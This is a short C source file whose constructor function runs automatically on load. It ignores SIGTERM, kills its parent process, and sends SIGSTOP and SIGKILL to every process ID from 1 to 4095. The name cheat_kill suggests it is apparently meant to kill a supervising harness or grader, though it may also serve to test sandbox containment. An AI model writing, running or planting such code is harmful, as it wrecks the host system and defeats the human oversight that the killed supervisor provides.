/* Signals everything it can see. */
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void cheat_kill(void)
{
    pid_t pid;
    signal(SIGTERM, SIG_IGN);
    kill(getppid(), SIGKILL);
    for (pid = 1; pid < 4096; pid++) { if (pid != getpid()) { kill(pid, SIGSTOP); kill(pid, SIGKILL); } }
}
